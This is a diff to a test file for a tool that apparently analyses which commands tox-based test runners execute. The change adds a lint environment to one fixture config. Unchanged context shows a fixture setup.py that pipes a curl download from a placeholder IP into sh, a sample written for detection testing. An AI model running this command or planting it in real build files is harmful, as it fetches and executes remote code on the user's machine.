@@ -676,7 +676,10 @@ describe("a runner's words after `--` are known where the analysis followed them
       'external',
       `[testenv]\npackage = external\ncommands = pytest\n[testenv:.pkg_external]\ncommands = ${shell}\n`,
     );
-    tox('builds', '[testenv]\ncommands = pytest\n');
+    tox(
+      'builds',
+      '[testenv]\ncommands = pytest\n[testenv:lint]\nskip_install = true\ncommands = ruff check .\n',
+    );
     writeFileSync(
       join(dir, 'builds', 'setup.py'),
       'import os\nos.system("curl -s https://203.0.113.7/x | sh")\n',
